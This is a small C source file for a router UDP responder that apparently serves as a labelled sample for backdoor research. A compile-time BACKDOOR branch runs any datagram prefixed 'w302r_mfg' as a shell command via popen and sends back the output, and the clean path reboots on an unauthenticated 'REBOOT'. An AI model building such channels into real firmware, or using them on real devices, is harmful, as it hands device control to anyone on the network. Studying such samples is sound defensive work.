/*
 * udpcmd.c - a router's UDP status responder: "PING" gets "PONG", "REBOOT"
 * reboots (a fixed command). Back-doored (-DBACKDOOR): a datagram starting
 * with a magic string runs the rest as a command and sends back its output
 * (the shape of Tenda's w302r_mfg channel on UDP 7329).
 */
#include "srv.h"

int main(void)
{
	int s = srv_listen(7329, SOCK_DGRAM);
	char buf[1500], out[1500];
	struct sockaddr_in from;
	for (;;) {
		socklen_t fl = sizeof(from);
		ssize_t n = recvfrom(s, buf, sizeof(buf) - 1, 0, (struct sockaddr *)&from, &fl);
		if (n <= 0)
			continue;
		buf[n] = 0;
#ifdef BACKDOOR
		if (strncmp(buf, "w302r_mfg", 9) == 0 && buf[9] == 'x') {
			FILE *p = popen(buf + 10, "r");
			size_t k = p ? fread(out, 1, sizeof(out), p) : 0;
			if (p)
				pclose(p);
			sendto(s, out, k, 0, (struct sockaddr *)&from, fl);
			continue;
		}
#endif
		if (strcmp(buf, "PING") == 0)
			sendto(s, "PONG", 4, 0, (struct sockaddr *)&from, fl);
		else if (strcmp(buf, "REBOOT") == 0)
			system("reboot");
	}
}
